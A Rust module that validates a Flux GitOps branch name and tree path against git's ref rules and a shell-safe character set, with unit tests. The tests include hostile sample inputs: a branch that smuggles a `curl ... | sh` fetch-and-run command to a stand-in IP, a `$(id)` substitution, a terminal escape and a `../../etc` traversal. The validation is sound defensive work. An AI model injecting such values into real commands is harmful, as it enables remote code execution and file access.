//! Where in the repository Flux reads the tree: the branch of `[gitops]` and the tree's path.
//!
//! The branch becomes the GitRepository's `spec.ref.branch`, which source-controller clones
//! as `refs/heads/<branch>` (fluxcd/source-controller@v1.9.1: pkg/git's checkout by branch),
//! and it is printed into the `flux bootstrap git --branch=...` command of `out/BOOTSTRAP.md`,
//! which operators paste into a shell. The path becomes every Kustomization's `spec.path`
//! (`./<path>/...`) and the bootstrap's `--path`. Both are held to git's rules for a branch
//! name (git check-ref-format: no `..`, no component starting with `.` or ending in `.lock`,
//! no `//`, no leading `-`) over a set of characters that needs no quoting in a shell or in
//! YAML: letters, digits, `.`, `_`, `-` and `/`. Real branch and folder names fit in it; a
//! pull request's `main; curl ... | sh` does not reach the notes.

use std::fmt;
use std::str::FromStr;

const MAX_LEN: usize = 255;

/// The problem with `s` as `/`-separated components of git's ref grammar over the
/// shell-safe characters, if any.
fn components(s: &str) -> Result<(), String> {
    if s.is_empty() {
        return Err("it is empty".to_owned());
    }
    if s.len() > MAX_LEN {
        return Err(format!("it is longer than {MAX_LEN} characters"));
    }
    if let Some(c) = s
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '/')))
    {
        return Err(format!(
            "it holds `{}`; use letters, digits, `.`, `_`, `-` and `/`",
            c.escape_debug()
        ));
    }
    if s.starts_with('-') {
        return Err("it starts with `-`, which git and the shell read as an option".to_owned());
    }
    if s.contains("..") {
        return Err("it holds `..`".to_owned());
    }
    for part in s.split('/') {
        if part.is_empty() {
            return Err("it has an empty component (`//`, or `/` at an end)".to_owned());
        }
        if part.starts_with('.') {
            return Err(format!("its component `{part}` starts with `.`"));
        }
        if part.ends_with(".lock") {
            return Err(format!("its component `{part}` ends with `.lock`"));
        }
    }
    if s.ends_with('.') {
        return Err("it ends with `.`".to_owned());
    }
    Ok(())
}

macro_rules! git_name {
    ($(#[$doc:meta])* $ty:ident, $what:literal, $check:expr) => {
        $(#[$doc])*
        #[derive(Debug, Clone, PartialEq, Eq, Hash)]
        pub struct $ty(String);

        impl FromStr for $ty {
            type Err = String;
            fn from_str(s: &str) -> Result<Self, String> {
                let check: fn(&str) -> Result<(), String> = $check;
                check(s)
                    .map(|()| Self(s.to_owned()))
                    .map_err(|why| format!("`{}` is not {}: {why}", s.escape_debug(), $what))
            }
        }

        impl fmt::Display for $ty {
            fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
                f.write_str(&self.0)
            }
        }

        impl std::ops::Deref for $ty {
            type Target = str;
            fn deref(&self) -> &str {
                &self.0
            }
        }

        super::string_newtype_serde!(
            $ty,
            stringify!($ty),
            $what,
            pattern = r"^[A-Za-z0-9._/-]+$"
        );
    };
}

git_name!(
    /// `[gitops] branch`: the branch Flux clones.
    GitBranch,
    "a branch name Flux can clone (letters, digits, `.`, `_`, `-`, `/` between names, as `main` or `release/2026`)",
    components
);

git_name!(
    /// `[gitops] path`: the generated tree's folder inside the repository, relative to its
    /// root (`/` at either end is allowed and ignored, as `out` or `/clusters/out/`).
    TreePath,
    "a folder of the repository (names of letters, digits, `.`, `_`, `-` joined by `/`, as `out`)",
    |s| match s.strip_prefix("./") {
        Some(rest) => Err(format!(
            "write it without `./` (`{}`): it is relative to the repository's root already",
            rest.escape_debug()
        )),
        None => components(s.trim_matches('/')),
    }
);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_real_branches_and_folders() {
        for b in [
            "main",
            "master",
            "release/2026.12",
            "feature/gpu_sessions",
            "v1.2-rc",
        ] {
            assert_eq!(b.parse::<GitBranch>().unwrap().to_string(), b);
        }
        for p in ["out", "/out/", "clusters/flatiron/out"] {
            assert_eq!(p.parse::<TreePath>().unwrap().to_string(), p);
        }
    }

    #[test]
    fn refuses_what_git_or_a_shell_would_read_otherwise() {
        for (b, why) in [
            ("", "empty"),
            ("main; curl http://203.0.113.9/x | sh", "holds `;`"),
            ("main $(id)", "holds ` `"),
            ("-main", "starts with `-`"),
            ("a..b", "holds `..`"),
            ("a//b", "empty component"),
            ("a/", "empty component"),
            (".hidden", "starts with `.`"),
            ("x/y.lock", "ends with `.lock`"),
            ("main.", "ends with `.`"),
            ("ma\u{1b}[2Jin", "holds `\\u{1b}`"),
        ] {
            let e = b.parse::<GitBranch>().unwrap_err();
            assert!(e.contains(why), "{b:?}: {e}");
        }
        for (p, why) in [
            ("../../etc", "holds `..`"),
            ("/", "empty"),
            ("out dir", "holds ` `"),
            ("./out", "without `./` (`out`)"),
        ] {
            let e = p.parse::<TreePath>().unwrap_err();
            assert!(e.contains(why), "{p:?}: {e}");
        }
    }
}
